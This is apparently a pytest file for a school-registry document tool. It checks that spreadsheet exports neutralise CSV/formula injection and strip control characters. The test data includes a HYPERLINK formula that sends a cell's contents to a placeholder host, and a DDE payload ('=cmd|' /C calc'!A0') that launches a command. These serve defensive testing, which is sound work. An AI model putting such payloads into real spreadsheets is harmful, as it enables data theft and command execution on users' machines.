"""Spreadsheets as a weapon: text that looks like a formula is exported as text (OWASP's advice on
CSV injection) to .xlsx and .csv, and control characters never reach — or break — an export."""
from __future__ import annotations

import csv
import io
import sqlite3

import pytest

from helpers import TAYANDY_PROFILE as PROFILE, approve_act, edit_text, generate, registry_rows

TODAY = "01.10.2026"
FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"нажмите")', "+1", "-2+3", "@SUM(A1)", "  =1+1"]

pytestmark = pytest.mark.usefixtures("in_test_folder")


def read_xlsx(path):
    """Every data cell with its type: «f» would be a live formula."""
    from openpyxl import load_workbook

    return [[(cell.value, cell.data_type) for cell in row] for row in load_workbook(path).active.iter_rows(min_row=2)]


def read_csv(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""), delimiter=";"))[1:]


def acts_export(cli, db, path):
    result = cli("acts", "export", "--org", PROFILE, "--db", db, "--today", TODAY, "--out", path)
    assert result.exit_code == 0, result.output
    return path


def note_cells(cli, db, tmp_path, act_ids):
    """The note column (7th) of the given acts, in an .xlsx and a .csv export."""
    xlsx = {row[0][0]: row[6] for row in read_xlsx(acts_export(cli, db, tmp_path / "реестр.xlsx"))}
    rows = {row[0]: row[6] for row in read_csv(acts_export(cli, db, tmp_path / "реестр.csv"))}
    return [xlsx[a] for a in act_ids], [rows[a] for a in act_ids]


ACTS = ["vsoko-regulation", "self-evaluation", "disputes-commission", "pedagogical-council", "development-programme"]


def test_formula_like_notes_set_by_acts_set_are_text_in_both_exports(cli, registry_db, tmp_path):
    for act, text in zip(ACTS, FORMULAS):
        result = cli("acts", "set", act, "в разработке", "--note", text, "--org", PROFILE, "--db", registry_db,
                     "--today", TODAY)
        assert result.exit_code == 0, result.output
    in_xlsx, in_csv = note_cells(cli, registry_db, tmp_path, ACTS)
    assert in_xlsx == [(text, "s") for text in FORMULAS]  # as typed, a string cell, never «f»
    assert in_csv == ["'" + text for text in FORMULAS]  # the spreadsheet's «this is text» mark


def test_formula_like_cells_imported_from_csv_are_text_and_reimport_changes_nothing(cli, registry_db, tmp_path):
    path = tmp_path / "школа.csv"
    rows = [["Код", "Акт", "Статус", "Приказ №", "Дата приказа", "Ответственный", "Примечание"]]
    rows += [[act, "", "в разработке", "", "", "", text] for act, text in zip(ACTS, FORMULAS)]
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    result = cli("acts", "import", path, "--org", PROFILE, "--db", registry_db, "--today", TODAY)
    assert result.exit_code == 0, result.output
    in_xlsx, in_csv = note_cells(cli, registry_db, tmp_path, ACTS)
    assert in_xlsx == [(text.strip(), "s") for text in FORMULAS]
    assert in_csv == ["'" + text.strip() for text in FORMULAS]
    before = registry_rows(registry_db)
    for exported in (tmp_path / "реестр.csv", tmp_path / "реестр.xlsx"):  # the quote mark is taken off again
        again = cli("acts", "import", exported, "--org", PROFILE, "--db", registry_db, "--today", TODAY)
        assert again.exit_code == 0 and "Изменено актов: 0" in again.stdout, again.output
    assert registry_rows(registry_db) == before


def test_a_school_named_like_a_formula_is_text_in_the_journal_export(cli, sample_dir, tmp_path, journal_db):
    name = '=HYPERLINK("http://example.invalid","СОШ")'
    edit_text(sample_dir / "organization.yaml", "short_name: МКОУ «Таяндинская СОШ»", f"short_name: '{name}'")
    assert generate("working-group-order", sample_dir / "working-group-order.yaml", tmp_path / "out").result.exit_code == 0
    for fmt in ("xlsx", "csv"):
        result = cli("journal", "--format", fmt, "--out", tmp_path / f"журнал.{fmt}")
        assert result.exit_code == 0, result.output
    assert read_xlsx(tmp_path / "журнал.xlsx")[0][0] == (name, "s")
    assert read_csv(tmp_path / "журнал.csv")[0][0] == "'" + name


def test_control_characters_typed_into_a_note_never_reach_the_store(cli, registry_db, tmp_path):
    result = cli("acts", "set", "self-evaluation", "в разработке", "--note", "протокол\x07 №\x1b3\r\nот\x85 педсовета",
                 "--responsible", "Белых\x00 И.С.", "--org", PROFILE, "--db", registry_db, "--today", TODAY)
    assert result.exit_code == 0, result.output
    status = registry_rows(registry_db)[0]
    assert status[0][6:8] == ("протокол №3\nот педсовета", "Белых И.С.")
    in_xlsx, in_csv = note_cells(cli, registry_db, tmp_path, ["self-evaluation"])
    assert in_xlsx == [("протокол №3\nот педсовета", "s")] and in_csv == ["протокол №3\nот педсовета"]


def test_control_characters_in_an_imported_file_never_reach_the_store(cli, registry_db, tmp_path):
    path = tmp_path / "школа.csv"
    path.write_text("Код;Статус;Примечание\r\nself-evaluation;в разработке;учтено\x0b мнение\x1f советов\x9b\r\n",
                    encoding="utf-8")
    result = cli("acts", "import", path, "--org", PROFILE, "--db", registry_db, "--today", TODAY)
    assert result.exit_code == 0, result.output
    assert registry_rows(registry_db)[0][0][6] == "учтено мнение советов"


def test_an_old_store_holding_control_characters_still_exports(cli, registry_db, tmp_path):
    """A store written before docgen cleaned its input: the export cleans on the way out."""
    approve_act(registry_db, "vsoko-regulation")
    with sqlite3.connect(registry_db) as conn:
        conn.execute("update act_status set note = ?, responsible = ? where act_id = 'vsoko-regulation'",
                     ("bell\x07 and escape\x1b", "\x00=cmd|' /C calc'!A0"))
    in_xlsx, in_csv = note_cells(cli, registry_db, tmp_path, ["vsoko-regulation"])
    assert in_xlsx == [("bell and escape", "s")] and in_csv == ["bell and escape"]
    xlsx_row = next(r for r in read_xlsx(tmp_path / "реестр.xlsx") if r[0][0] == "vsoko-regulation")
    assert xlsx_row[5] == ("=cmd|' /C calc'!A0", "s")
